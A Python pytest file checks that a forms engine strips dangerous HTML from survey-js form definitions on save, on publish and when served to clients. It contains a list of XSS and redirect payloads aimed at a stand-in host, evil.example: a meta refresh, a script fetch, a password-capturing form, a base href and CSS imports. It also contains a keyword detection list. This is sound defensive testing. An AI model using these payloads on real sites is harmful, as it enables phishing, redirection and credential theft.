"""HTML in form definitions: every property survey-js-ui renders as markup is cleaned on save, on
publish and when a definition is served, so a form author cannot redirect or script a client's page."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from engine.authz import SYSTEM, staff_actor
from engine.models.forms import FormDefinition, FormVersion
from engine.services.forms import forms as form_service
from engine.services.forms import submissions
from engine.services.forms.forms import canonical_json
from tests.helpers import make_client, make_staff

ROOT = Path(__file__).resolve().parents[3]
REFRESH = '<meta http-equiv="refresh" content="0;url=https://evil.example/steal">'
# Markup a therapist might put in a form, each of which must not reach a client's browser as written.
ATTACKS = (
    REFRESH,
    "<script>fetch('https://evil.example')</script>",
    '<img src="https://evil.example/p.gif">',
    '<iframe src="https://evil.example"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<p onclick="alert(1)">x</p>',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import url(https://evil.example/x.css)</style>",
    '<object data="https://evil.example"></object>',
    '<svg><a href="https://evil.example"><text>x</text></a></svg>',
    '<p style="background:url(https://evil.example)">x</p>',
)
DANGER = (
    "<meta",
    "<script",
    "<img",
    "<iframe",
    "javascript:",
    "<form",
    "<input",
    "onclick",
    "<base",
    "<link",
    "<style",
    "@import",
    "<object",
    "<svg",
    "style=",
    "evil.example/p.gif",
    "evil.example/x.css",
)


def _everywhere(markup: str) -> dict:
    """A definition carrying `markup` in every property survey-js-ui renders as HTML."""
    return {
        "completedHtml": markup,
        "completedBeforeHtml": markup,
        "loadingHtml": {"default": markup, "fr": markup},
        "completedHtmlOnCondition": [{"expression": "{age} > 1", "html": markup}],
        "navigateToUrl": "https://evil.example/steal",
        "navigateToUrlOnCondition": [{"expression": "{age} > 1", "url": "https://evil.example/steal"}],
        "pages": [
            {
                "name": "p1",
                "elements": [
                    {"type": "html", "name": "intro", "html": f"<p>Welcome</p>{markup}"},
                    {"type": "text", "name": "age", "inputType": "number"},
                    {
                        "type": "panel",
                        "name": "box",
                        "elements": [{"type": "html", "name": "inner", "html": {"default": markup}}],
                    },
                    {
                        "type": "paneldynamic",
                        "name": "kids",
                        "templateElements": [{"type": "html", "name": "kid_note", "html": markup}],
                    },
                ],
            }
        ],
    }


def _dangers(definition) -> list[str]:
    text = json.dumps(definition)
    return [d for d in DANGER if d in text] + [k for k in ("navigateToUrl",) if k in text]


def test_hole11_meta_refresh_is_stripped_on_save(clean_db):
    """Does a <meta http-equiv=refresh> in a therapist's html element vanish when the form is saved?"""
    therapist = staff_actor(make_staff(roles=("therapist",)))
    definition = {"elements": [{"type": "html", "name": "intro", "html": f"<p>Hello</p>{REFRESH}"}]}
    form_service.create_form(therapist, "check_in", "dynamic", "Check-in", definition)
    saved = FormDefinition.objects(key="check_in").get().draft
    assert saved["elements"][0]["html"] == "<p>Hello</p>"
    form_service.update_draft(therapist, "check_in", definition)
    assert FormDefinition.objects(key="check_in").get().draft["elements"][0]["html"] == "<p>Hello</p>"
    version = form_service.publish(therapist, "check_in")
    assert "refresh" not in version.definition_json


@pytest.mark.parametrize("markup", ATTACKS)
def test_hole11_every_html_property_is_cleaned_on_save_and_publish(clean_db, markup):
    """Is each attack cleaned out of every HTML-bearing property (localized ones too, nested ones too),
    and the after-completion redirect removed, in the saved draft and the published version?"""
    admin = staff_actor(make_staff(roles=("org_admin",)))
    form_service.create_form(admin, "loaded", "dynamic", "Loaded", _everywhere(markup))
    draft = FormDefinition.objects(key="loaded").get().draft
    assert _dangers(draft) == []
    assert draft["pages"][0]["elements"][0]["html"].startswith("<p>Welcome</p>")
    version = form_service.publish(admin, "loaded")
    assert _dangers(version.definition) == []


def test_hole11_draft_saved_before_sanitizing_is_cleaned_at_publish(clean_db):
    """Is a draft stored before sanitizing existed cleaned when it is published?"""
    admin = staff_actor(make_staff(roles=("org_admin",)))
    form_service.create_form(
        admin, "old", "dynamic", "Old", {"elements": [{"type": "html", "name": "n", "html": "<p>x</p>"}]}
    )
    FormDefinition.objects(key="old").update_one(set__draft=_everywhere(REFRESH))
    version = form_service.publish(admin, "old")
    assert _dangers(version.definition) == []


def test_hole11_version_published_before_sanitizing_is_served_clean(clean_db, client):
    """Does a version published by an older release (markup kept) reach the browser cleaned, through
    the forms API and a task's form?"""
    from tests.form_requests import request_form
    from tests.helpers import api_login, make_portal_account

    definition = _everywhere(REFRESH)
    version = FormVersion(
        key="old_form",
        number=1,
        kind="intake",
        title="Old",
        definition_json=canonical_json(definition),
        sha256="0" * 64,
    ).save()
    FormDefinition(
        key="old_form",
        kind="intake",
        title="Old",
        draft=definition,
        latest_version=1,
        latest_version_id=version.id,
    ).save()
    person = make_client()
    account = make_portal_account(client=person)
    task = request_form(person, "old_form")
    staff_view = submissions.start(SYSTEM, person.id, "old_form")
    assert _dangers(staff_view["definition"]) == []
    headers = api_login(client, account.email)
    served = client.get(f"/api/v1/tasks/{task.id}", headers=headers).get_json()
    assert served["form"]["pages"][0]["elements"][0]["html"] == "<p>Welcome</p>"
    assert _dangers(served["form"]) == []
    opened = client.get(
        f"/api/v1/clients/{person.id}/forms/old_form",
        headers=headers,
        query_string={"context": f"task:{task.id}"},
    ).get_json()
    assert _dangers(opened["definition"]) == []


def test_formatting_survives_and_shipped_templates_are_unchanged():
    """Do paragraphs, emphasis, lists and safe links survive, and does every shipped template come out
    of the sanitizer exactly as written (their markup is all allowed)?"""
    from engine.forms.sanitize import clean_html, sanitize_definition

    kept = "<p>Read <strong>this</strong> and <em>that</em>:</p><ul><li>one</li></ul>"
    assert clean_html(kept) == kept
    link = clean_html('<a href="https://example.org/npp" target="_top">notice</a>')
    assert link == '<a href="https://example.org/npp" rel="noopener noreferrer">notice</a>'
    for path in sorted((ROOT / "form_defs").glob("*.json")):
        definition = json.loads(path.read_text())
        assert sanitize_definition(definition) == definition, path.name


def test_no_page_turns_titles_into_markup():
    """Do Portico's pages leave titles and descriptions as text (no onTextMarkdown handler)? If one is
    added, titles become HTML-bearing and engine/forms/sanitize.py must clean them too."""
    scripts = [p for p in (ROOT / "web" / "static").rglob("*.js") if "vendor" not in p.parts]
    templates = list((ROOT / "web" / "templates").rglob("*.html"))
    assert scripts
    assert [p.name for p in scripts + templates if "onTextMarkdown" in p.read_text()] == []


_RENDER = """
const Survey = require(process.argv[1]);
let input = "";
process.stdin.on("data", (c) => { input += c; }).on("end", () => {
  const { definition, data } = JSON.parse(input);
  const survey = new Survey.Model(definition);
  survey.data = data;
  const html = survey.getAllQuestions(false, false, true).filter((q) => q.getType() === "html")
    .map((q) => q.locHtml.renderedHtml);
  const panels = survey.getQuestionByName("kids").panels
    .map((p) => p.getQuestionByName("kid_note").locHtml.renderedHtml);
  console.log(JSON.stringify({ html, panels, completed: survey.processedCompletedHtml }));
});
"""


def test_hole11_answers_are_not_written_into_html_as_markup(clean_db):
    """survey-core writes answers named in markup ({name}) into it unescaped: is a definition saved so
    that survey-core itself (run in node) leaves an answer holding a meta refresh out of the markup?"""
    import shutil
    import subprocess

    core = ROOT / "web" / "node_modules" / "survey-core" / "survey.core.js"
    if shutil.which("node") is None or not core.exists():
        pytest.fail("node and web/node_modules (./dev setup) are needed to ask survey-core")
    admin = staff_actor(make_staff(roles=("org_admin",)))
    definition = {
        "completedHtml": "<p>Thank you, {name}</p>",
        "elements": [
            {"type": "text", "name": "name"},
            {"type": "html", "name": "hello", "html": "<p>Hello {name}</p>"},
            {
                "type": "paneldynamic",
                "name": "kids",
                "templateElements": [
                    {"type": "text", "name": "kid"},
                    {"type": "html", "name": "kid_note", "html": "<i>{panel.kid}</i>"},
                ],
            },
        ],
    }
    form_service.create_form(admin, "greeting", "dynamic", "Greeting", definition)
    saved = FormDefinition.objects(key="greeting").get().draft
    data = {"name": REFRESH, "kids": [{"kid": REFRESH}]}
    out = subprocess.run(
        ["node", "-e", _RENDER, str(core)],
        input=json.dumps({"definition": saved, "data": data}),
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    rendered = json.loads(out.stdout)
    assert rendered == {
        "html": ["<p>Hello &#123;name&#125;</p>", "<i>&#123;panel.kid&#125;</i>"],
        "panels": ["<i>&#123;panel.kid&#125;</i>"],
        "completed": "<p>Thank you, &#123;name&#125;</p>",
    }
